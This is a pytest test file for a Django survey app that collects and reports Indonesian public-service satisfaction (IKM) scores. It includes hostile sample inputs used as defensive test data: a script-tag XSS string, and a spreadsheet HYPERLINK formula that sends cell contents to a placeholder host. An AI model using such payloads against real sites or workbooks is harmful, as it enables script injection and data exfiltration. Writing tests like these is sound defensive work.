"""The public SKM questionnaire: a citizen answers, bad input is refused with a clear message."""

from __future__ import annotations

import io
import re
from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.test import override_settings
from django.utils import timezone

from sigap.analytics.ikm import PeriodKind, period_key
from sigap.notifications.links import applicant_token
from sigap.notifications.survey_links import survey_token
from sigap.rules.ikm import ELEMENT_CODES
from sigap.surveys.models import SurveyResponse
from sigap.surveys.services import survey_submit
from tests import factories
from tests.conftest import local
from tests.pdf_text import pdf_text

ALL_FOUR = {code: "4" for code in ELEMENT_CODES}


def post(client, data, service="ktp-el", **extra):
    return client.post(f"/skm/{service}/?via=qr", data, **extra)


def test_a_citizen_answers_the_nine_questions_without_javascript(client, world):
    page = client.get("/skm/ktp-el/").content.decode()
    assert "Penerbitan KTP-el" in page and "Loket A" in page
    assert "Sangat sopan dan ramah" in page  # official answer labels
    assert "<script" not in page
    response = post(client, {**ALL_FOUR, "waktu": "2", "gender": "P", "education": "sma"})
    assert response.status_code == 302 and response["Location"] == "/skm/terima-kasih/"
    stored = SurveyResponse.objects.get()
    assert stored.waktu == 2 and stored.sarana == 4 and stored.unit == world.counter_a
    assert stored.channel == "qr" and stored.gender == "P" and stored.service_request is None


def test_an_out_of_range_answer_is_refused_and_nothing_is_stored(client, world):
    response = post(client, {**ALL_FOUR, "biaya": "5"})
    assert response.status_code == 400
    assert SurveyResponse.objects.count() == 0


def test_a_missing_answer_is_named(client, world):
    data = dict(ALL_FOUR)
    del data["sarana"]
    response = post(client, data)
    assert response.status_code == 400
    assert "Choose one answer" in response.content.decode() or "Pilih" in response.content.decode()


def test_the_survey_token_ties_the_answers_to_the_request_once(client, world, ktp_request):
    ktp_request = factories.complete(world, ktp_request)
    code = ktp_request.receipt_code
    token = survey_token(code)
    form = client.get(f"/skm/ktp-el/?via=receipt&t={token}").content.decode()
    assert f'name="t" value="{token}"' in form and code in form
    assert post(client, {**ALL_FOUR, "t": token}).status_code == 302
    assert SurveyResponse.objects.get().service_request == ktp_request
    second = post(client, {**ALL_FOUR, "t": token})
    assert second.status_code == 400
    assert code in second.content.decode()
    assert SurveyResponse.objects.count() == 1


def test_a_stranger_with_the_code_only_cannot_spend_the_requests_survey(client, world, ktp_request):
    """Issue #14 point 8: the receipt code is no proof; typed in the form, it ties nothing."""
    ktp_request = factories.complete(world, ktp_request)
    code = ktp_request.receipt_code
    assert post(client, {**ALL_FOUR, "kode": code}).status_code == 302  # counted, anonymously
    forged = survey_token(code)[:-2] + "xx"
    assert post(client, {**ALL_FOUR, "t": forged}).status_code == 302
    applicant_link = applicant_token(code)  # a token of another purpose opens nothing here
    assert post(client, {**ALL_FOUR, "t": applicant_link}).status_code == 302
    assert not SurveyResponse.objects.exclude(service_request=None).exists()
    with pytest.raises(ValidationError):
        survey_submit(service=world.ktp, answers=ALL_FOUR, receipt_code=code)
    # The request's one survey is still the applicant's.
    assert post(client, {**ALL_FOUR, "t": survey_token(code)}).status_code == 302
    assert SurveyResponse.objects.get(service_request=ktp_request)


def test_a_token_of_another_services_request_ties_nothing(client, world):
    other = factories.submit(world, at=local(2025, 3, 27), service=world.rujukan)
    response = post(client, {**ALL_FOUR, "t": survey_token(other.receipt_code)})
    assert response.status_code == 302
    assert SurveyResponse.objects.get().service_request is None


def test_the_applicant_opens_the_survey_with_the_contact_of_the_request(client, world, ktp_request):
    factories.complete(world, ktp_request)
    code = ktp_request.receipt_code
    url = f"/skm/kode/{code}/"
    client.cookies["django_language"] = "id"
    page = client.get(url)
    assert page.status_code == 200 and 'name="persyaratan"' not in page.content.decode()
    assert 'name="contact"' in page.content.decode()
    wrong = client.post(url, {"contact": "0899 0000 1111"})
    assert wrong.status_code == 400 and "Ini bukan nomor atau e-mail" in wrong.content.decode()
    empty = client.post(url, {"contact": ""})
    assert empty.status_code == 400 and "Tulis nomor WhatsApp" in empty.content.decode()
    right = client.post(url, {"contact": "+62 812 3456 7890"})
    assert right.status_code == 302
    assert right["Location"].endswith(f"/skm/ktp-el/?via=receipt&t={survey_token(code)}")
    assert SurveyResponse.objects.count() == 0


@override_settings(SIGAP={"RATE_LIMITS": "skm_contact=2/3600"})
def test_the_contact_check_is_rate_limited(client, world, ktp_request):
    factories.complete(world, ktp_request)
    url = f"/skm/kode/{ktp_request.receipt_code}/"
    for guess in ("0811 1111 1111", "0822 2222 2222"):
        assert client.post(url, {"contact": guess}).status_code == 400
    # The right contact, after the probes: asked to wait (the pair cannot be probed).
    assert client.post(url, {"contact": "0812-3456-7890"}).status_code == 429


def test_an_unknown_service_code_is_a_404(client, world):
    assert client.get("/skm/tidak-ada/").status_code == 404
    assert post(client, ALL_FOUR, service="tidak-ada").status_code == 404


def test_an_oversized_comment_is_refused(client, world):
    response = post(client, {**ALL_FOUR, "comment": "x" * 4001})
    assert response.status_code == 400 and SurveyResponse.objects.count() == 0
    assert post(client, {**ALL_FOUR, "comment": "x" * 4000}).status_code == 302


def test_html_in_a_comment_is_stored_as_typed_and_shown_escaped(client, world):
    evil = "<script>alert(1)</script>"
    response = post(client, {**ALL_FOUR, "biaya": "9", "comment": evil})
    assert evil not in response.content.decode()
    assert "&lt;script&gt;" in response.content.decode()
    post(client, {**ALL_FOUR, "comment": evil})
    assert SurveyResponse.objects.get().comment == evil


@override_settings(SIGAP={"RATE_LIMITS": "survey=3/3600"})
def test_a_flood_from_one_address_gets_a_clear_429(client, world):
    for _ in range(3):
        assert post(client, ALL_FOUR).status_code == 302
    response = post(client, ALL_FOUR)
    assert response.status_code == 429
    assert int(response["Retry-After"]) > 0
    assert "3" in response.content.decode()
    assert SurveyResponse.objects.count() == 3
    # Another address is not affected.
    assert post(client, ALL_FOUR, REMOTE_ADDR="10.0.0.9").status_code == 302


def test_the_receipt_carries_the_survey_link_and_a_qr_code(client, world, ktp_request):
    client.force_login(world.users["officer_a"])
    code = ktp_request.receipt_code
    page = client.get(f"/permohonan/{code}/tanda-terima/").content.decode()
    # The slip's QR code and link carry the survey token: the slip is the applicant's proof.
    assert f"/skm/kode/{code}/?t={survey_token(code)}" in page
    assert "<svg" in page


def test_the_counter_qr_code_is_an_svg(client, world):
    response = client.get("/skm/ktp-el/qr.svg")
    assert response["Content-Type"] == "image/svg+xml" and b"<svg" in response.content
    assert "<svg" in client.get("/skm/ktp-el/poster/").content.decode()


def test_a_receipt_code_leads_to_its_questionnaire(client, world, ktp_request):
    factories.complete(world, ktp_request)
    code = ktp_request.receipt_code
    response = client.get(f"/skm/kode/{code}/?t={survey_token(code)}")
    assert response.status_code == 302
    assert f"/skm/ktp-el/?via=receipt&t={survey_token(code)}" in response["Location"]
    assert client.get("/skm/kode/ZZZZZZZZZZ/").status_code == 404


RECENT = timezone.localtime() - timedelta(days=20)  # inside the public page's window
QUARTER = period_key(RECENT.date(), PeriodKind.QUARTER)


@pytest.fixture
def answered(world):
    from sigap.surveys.services import survey_submit

    for i in range(6):
        survey_submit(
            service=world.ktp,
            answers={**{c: 3 for c in ELEMENT_CODES}, "waktu": 1 + i % 2},
            comment="<b>antre lama</b>" if i == 0 else "",
            submitted_at=RECENT,
        )
    factories.submit(world, at=RECENT)


def test_staff_see_ikm_per_unit_with_the_weakest_element_and_a_short_sample(
    client, world, answered
):
    client.force_login(world.users["head_a"])
    page = client.get(f"/skm/hasil/?period=quarter&group=unit&year={RECENT.year}").content.decode()
    assert "Loket A" in page and QUARTER in page
    assert 'class="weakest"' in page and "waktu" in page
    # IKM: eight unsur at 3, waktu at 1.5 → (24 + 1.5) / 9 × 25 = 70.83 (C).
    assert "70.83" in page or "70,83" in page


def test_the_public_page_shows_the_latest_ikm_of_every_unit(client, world, answered):
    page = client.get("/ikm/").content.decode()
    assert "Loket A" in page and period_key(RECENT.date(), PeriodKind.SEMESTER) in page
    assert "70.83" in page or "70,83" in page
    assert "Kurang Baik" in page


def test_the_ikm_and_its_grade_lead_the_public_pages(client, world, answered):
    """Issue #14 point 6: on a phone the IKM and its grade with the words come first, as a
    figure above the table (the table's later columns scroll off a narrow screen)."""
    client.cookies["django_language"] = "id"
    page = client.get("/ikm/").content.decode()
    figure = page.index('data-testid="ikm-agency"')
    assert figure < page.index("<table")
    assert re.search(r'data-testid="ikm-agency-value">70[.,]83<', page)
    assert "mutu C · Kurang Baik" in page[figure:]
    # In the table, the IKM and the grade follow the unit's name.
    row = page[page.index('data-testid="ikm-row"') :]
    assert row.index("Loket A") < row.index("70") < row.index("mutu-C") < row.index(QUARTER[:4])
    service = client.get("/layanan/ktp-el/").content.decode()
    assert re.search(r'data-testid="service-ikm-value">70[.,]83<', service)
    assert "mutu C · Kurang Baik" in service


def test_the_skm_report_exports_pdf_and_xlsx(client, world, answered):
    from openpyxl import load_workbook

    client.force_login(world.users["head_a"])
    pdf = client.get(f"/skm/laporan/{world.counter_a.pk}/{QUARTER}.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    xlsx = client.get(f"/skm/laporan/{world.counter_a.pk}/{QUARTER}.xlsx")
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [c for row in book["Ringkasan"].iter_rows(values_only=True) for c in row if c]
    assert "C" in cells and "1/9 (eksak)" in cells
    # Figures are number cells with their decimals as the number format, never text.
    summary = book["Ringkasan"]
    by_label = {row[0].value: row[1] for row in summary.iter_rows(min_col=1, max_col=2)}
    ikm = by_label["IKM"]
    assert (ikm.data_type, ikm.value, ikm.number_format) == ("n", 70.83, "0.00")
    assert by_label["Jumlah responden"].data_type == "n"
    nrr = [row for row in summary.iter_rows() if re.fullmatch(r"U\d", str(row[0].value))]
    assert len(nrr) == 9
    assert all(r[2].data_type == "n" and r[2].number_format == "0.00" for r in nrr)
    assert all(r[3].data_type == "n" and r[3].number_format == "0.000" for r in nrr)
    # One figure, one string: the PDF prints the IKM as the Indonesian results page does.
    assert "(70,83)" in pdf_text(pdf.content)
    client.cookies["django_language"] = "id"
    assert "<strong>70,83</strong>" in client.get("/skm/hasil/").content.decode()
    assert "<b>antre lama</b>" in [
        c for row in book["Saran dan masukan"].iter_rows(values_only=True) for c in row
    ]
    assert {"Profil responden", "Rencana tindak lanjut"} <= set(book.sheetnames)


def test_a_hostile_comment_stays_text_and_never_breaks_the_skm_xlsx(client, world):
    """A control character made the unit's and every parent's SKM workbook a 500; a comment
    starting with "=" became a live formula."""
    from openpyxl import load_workbook

    from sigap.surveys.services import survey_submit

    formula = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    for comment in (formula, "antre\x0b lama\x1b"):
        survey_submit(
            service=world.ktp, answers={c: 3 for c in ELEMENT_CODES}, comment=comment,
            submitted_at=RECENT,
        )  # fmt: skip
    client.force_login(world.users["leadership"])
    for unit in (world.counter_a, world.dukcapil, world.root):
        xlsx = client.get(f"/skm/laporan/{unit.pk}/{QUARTER}.xlsx")
        assert xlsx.status_code == 200, unit
        sheet = load_workbook(io.BytesIO(xlsx.content))["Saran dan masukan"]
        cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
        assert cells[formula].data_type == "s"  # text, not a formula
        assert "antre lama" in cells


def test_a_malformed_report_period_or_format_is_a_404(client, world):
    client.force_login(world.users["head_a"])
    assert client.get(f"/skm/laporan/{world.counter_a.pk}/2025-Q7.pdf").status_code == 404
    assert client.get(f"/skm/laporan/{world.counter_a.pk}/2025.doc").status_code == 404


def test_the_unit_head_writes_the_follow_up_plan_and_it_reaches_the_report(client, world,
                                                                           answered):  # fmt: skip
    from openpyxl import load_workbook

    url = f"/skm/rencana/{world.counter_a.pk}/{QUARTER}/"
    plan = {"element": "waktu", "action": "Tambah loket sore", "timeline": "Triwulan depan",
            "responsible": "Kepala Loket A"}  # fmt: skip
    client.force_login(world.users["officer_a"])
    assert client.get(url).status_code == 200
    assert client.post(url, plan).status_code == 403
    client.force_login(world.users["head_a"])
    assert client.post(url, plan).status_code == 302
    assert "Tambah loket sore" in client.get(url).content.decode()
    xlsx = client.get(f"/skm/laporan/{world.counter_a.pk}/{QUARTER}.xlsx")
    rows = list(load_workbook(io.BytesIO(xlsx.content))["Rencana tindak lanjut"].values)
    assert ("Waktu Penyelesaian", "Tambah loket sore", "Triwulan depan", "Kepala Loket A") in rows


def test_a_follow_up_plan_for_a_malformed_period_is_refused(client, world):
    client.force_login(world.users["head_a"])
    response = client.post(
        f"/skm/rencana/{world.counter_a.pk}/2025-Q9/",
        {"element": "waktu", "action": "x", "timeline": "y", "responsible": "z"},
    )
    assert response.status_code == 400
